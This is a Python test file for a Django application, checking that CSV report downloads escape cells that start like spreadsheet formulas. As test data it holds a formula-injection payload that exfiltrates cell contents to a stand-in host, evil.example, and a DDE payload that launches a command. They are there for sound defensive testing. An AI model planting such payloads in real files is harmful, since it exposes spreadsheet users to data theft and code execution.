"""CSV downloads never hand a spreadsheet a formula: a cell that starts like one is quoted."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from django.test import Client

from tenants.reports.csvexport import csv_response, safe_cell
from tests.reports.operators import operator
from tests.reports.usage_data import at, record

RANGE = "start=2025-03-01&end=2025-03-03"
FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"click")'


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"])
def test_a_text_cell_that_starts_like_a_formula_gets_a_leading_quote(text: str) -> None:
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["alice", "", 12, -3, 1.5])
def test_plain_text_and_numbers_are_left_alone(value: Any) -> None:
    assert safe_cell(value) == value


def test_the_admin_models_csv_neutralises_a_formula_model_name(cast: Any) -> None:
    record("f1", cast.acme, "alice", FORMULA, at(3, 1, 12), 10, 5, api_key=cast.alice)
    record("f2", cast.acme, "@mallory", "llama", at(3, 1, 12), 10, 5, api_key=cast.alice)
    client = Client()
    client.force_login(operator())
    models = client.get(f"/admin/reports/models.csv?{RANGE}").content.decode()
    users = client.get(f"/admin/reports/users.csv?{RANGE}").content.decode()
    assert [r[0] for r in csv.reader(io.StringIO(models)) if "HYPERLINK" in r[0]] == ["'" + FORMULA]
    assert any(r[1] == "'@mallory" for r in csv.reader(io.StringIO(users)))


def test_the_csv_writer_quotes_every_formula_cell() -> None:
    response = csv_response("x.csv", ("a", "b"), [{"a": "=cmd|' /C calc'!A0", "b": -2}])
    assert list(csv.reader(io.StringIO(response.content.decode()))) == [
        ["a", "b"],
        ["'=cmd|' /C calc'!A0", "-2"],
    ]
